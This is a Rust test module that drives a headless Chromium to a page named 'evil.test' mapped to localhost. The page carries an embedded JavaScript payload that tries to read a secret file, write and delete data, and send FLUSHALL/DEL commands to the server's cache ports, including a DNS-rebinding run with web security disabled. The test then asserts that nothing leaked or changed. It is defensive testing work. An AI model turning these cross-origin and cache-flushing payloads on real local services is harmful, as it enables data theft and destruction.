//! A real browser that visits a foreign page, whose name resolves to this machine.
//!
//! The page sends what pages may send without asking. A second visit has the browser's own rules
//! switched off: it stands for a page that was loaded from the server's port before its name was
//! made to lead here (DNS rebinding), which the browser takes for the server's own. What is left is
//! what the server checks.

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::process::{Command, Stdio};
use std::sync::mpsc;
use std::time::Duration;

use anyhow::Context as _;

use super::server::Server;
use super::stage::{Skipped, Stage};
use super::{Check, claim};

pub(super) const CHECKS: [Check; 1] = [Check::slow(
    "browser",
    "a foreign page in a real browser reads and changes nothing",
    180,
    visit,
)];

/// How long a visit may take.
const VISIT_LIMIT: Duration = Duration::from_secs(60);
/// A file that is there.
const FILE: &str = "/v1/files/attack/secret";
/// What the page is called.
const NAME: &str = "evil.test";

/// The page: `HTTP`, `RESP` and `TEXT` stand for the server's ports.
const PAGE: &str = r#"<!DOCTYPE html><title>visit</title><script>
const results = {};
async function attempt(name, act) {
  try { results[name] = String(await act()).slice(0, 200); } catch (error) { results[name] = "error: " + error; }
}
const send = (url, method, body) =>
  fetch(url, { method, mode: "no-cors", body }).then((answer) => answer.text());
async function visit() {
  for (const host of ["evil.test", "127.0.0.1"]) {
    const at = `http://${host}:HTTP`;
    await attempt(host + " read", () => fetch(at + "/v1/files/attack/secret").then((answer) => answer.text()));
    await attempt(host + " list", () => fetch(at + "/v1/files").then((answer) => answer.text()));
    await attempt(host + " documents", () => send(at + "/v1/documents/evil", "POST", '{"evil":1}'));
    await attempt(host + " events", () => send(at + "/v1/events?stream=evil", "POST", '{"evil":1}\n'));
    await attempt(host + " inventory", () => send(at + "/v1/inventories/evil", "POST", '{"from":"forebay:blobs"}'));
    await attempt(host + " put", () => fetch(at + "/v1/files/attack/secret", { method: "PUT", body: "changed" }));
    await attempt(host + " delete", () => fetch(at + "/v1/files/attack/secret", { method: "DELETE" }));
    for (const port of ["RESP", "TEXT"]) {
      const body = "SET evil 1\r\nDEL kept\r\nFLUSHALL\r\n";
      await attempt(host + " cache " + port, () => send(`http://${host}:${port}/`, "POST", body));
    }
  }
  await fetch("/done", { method: "POST", body: JSON.stringify(results) });
}
visit();
</script>"#;

fn visit(stage: &Stage) -> anyhow::Result<String> {
    let browser = ["chromium-headless-shell", "chromium", "google-chrome"];
    let Some(browser) = browser.into_iter().find(|name| crate::setup::is_there(name)) else {
        let text = "chromium-headless-shell is not installed; run cargo xtask setup";
        return Err(Skipped(text.into()).into());
    };
    let server = stage.serve("data", &[])?;
    server.want("PUT", FILE, b"secret", &[200, 201])?;
    server.resp()?.want(&["SET", "kept", "1"], "OK")?;
    for (number, flags) in [&[][..], &["--disable-web-security"]].into_iter().enumerate() {
        let results = page(stage, &server, browser, number, flags)?;
        let object = results.as_object().context("the page's report is not an object")?;
        claim(object.len() == 18, || format!("the page did not try every request: {results}"))?;
        claim(!results.to_string().contains("secret"), || format!("the page has read: {results}"))?;
    }
    let back = server.want("GET", FILE, b"", &[200])?;
    claim(back.body == b"secret", || format!("the file is {}", back.shown()))?;
    for (path, evil) in
        [("/v1/documents", "evil"), ("/v1/inventories", "evil"), ("/v1/events", "evil")]
    {
        let answer = server.want("GET", path, b"", &[200])?;
        let text = String::from_utf8_lossy(&answer.body);
        claim(!text.contains(evil), || format!("{path} contains data from the page: {text}"))?;
    }
    let mut cache = server.resp()?;
    cache.want(&["GET", "kept"], "1")?;
    cache.want(&["EXISTS", "evil"], "0")?;
    Ok(browser.to_owned())
}

/// Has the browser visit the page; what the page reports.
fn page(
    stage: &Stage,
    server: &Server,
    browser: &str,
    number: usize,
    flags: &[&str],
) -> anyhow::Result<serde_json::Value> {
    let mut page = PAGE.to_owned();
    for (name, address) in [("HTTP", server.http), ("RESP", server.resp), ("TEXT", server.text)] {
        page = page.replace(&format!(":{name}`"), &format!(":{}`", address.port()));
        page = page.replace(&format!("\"{name}\""), &format!("\"{}\"", address.port()));
    }
    let listener = TcpListener::bind("127.0.0.1:0").context("cannot serve the page")?;
    let port = listener.local_addr().context("the page has no address")?.port();
    let (send, reported) = mpsc::channel();
    // It ends with this process: a browser may come back for an icon at any time.
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            if let Ok(Some(report)) = answer(&stream, &page) {
                // Later reports are ignored.
                send.send(report).unwrap_or_default();
            }
        }
    });
    let mut visit = Command::new("timeout");
    visit.args(["-k", "5", &VISIT_LIMIT.as_secs().to_string(), browser, "--no-sandbox"]);
    visit.args(["--headless", "--disable-gpu", "--no-first-run", "--remote-debugging-port=0"]);
    visit.arg(format!("--host-resolver-rules=MAP {NAME} 127.0.0.1"));
    visit.arg(format!("--user-data-dir={}", stage.dir.join(format!("profile-{number}")).display()));
    visit.args(flags).arg(format!("http://{NAME}:{port}/"));
    let log = stage.dir.join(format!("browser-{number}.log"));
    let errors = std::fs::File::create(&log).context("cannot write the browser's log")?;
    visit.stdin(Stdio::null()).stdout(Stdio::null()).stderr(errors);
    let mut visiting = visit.spawn().context("cannot start the browser")?;
    stage.note(visiting.id());
    let report = reported.recv_timeout(VISIT_LIMIT);
    // `timeout` passes the signal on to the browser.
    crate::command::works(Command::new("kill").arg(visiting.id().to_string()));
    visiting.wait().context("cannot wait for the browser")?;
    stage.forget(visiting.id());
    let report =
        report.with_context(|| format!("the page reported nothing; see {}", log.display()))?;
    serde_json::from_slice(&report).context("the page's report is not JSON")
}

/// Serves the page; returns what it reports.
fn answer(stream: &TcpStream, page: &str) -> anyhow::Result<Option<Vec<u8>>> {
    stream.set_read_timeout(Some(VISIT_LIMIT)).context("cannot limit reads")?;
    let mut reader = BufReader::new(stream);
    let (mut first, mut line, mut length) = (String::new(), String::new(), 0_u64);
    reader.read_line(&mut first).context("no request")?;
    loop {
        line.clear();
        if reader.read_line(&mut line).context("no head")? <= 2 {
            break;
        }
        let lower = line.to_ascii_lowercase();
        if let Some(value) = lower.strip_prefix("content-length:") {
            length = value.trim().parse().context("no length")?;
        }
    }
    let mut body = Vec::new();
    reader.take(length).read_to_end(&mut body).context("no body")?;
    let (kind, text) = match first.starts_with("GET / ") {
        true => ("text/html", page),
        false => ("text/plain", ""),
    };
    let size = text.len();
    let head = format!(
        "HTTP/1.1 200 OK\r\ncontent-type: {kind}\r\ncontent-length: {size}\r\nconnection: close\r\n\r\n"
    );
    let mut stream = stream;
    stream.write_all(format!("{head}{text}").as_bytes()).context("cannot answer")?;
    Ok(first.starts_with("POST /done ").then_some(body))
}
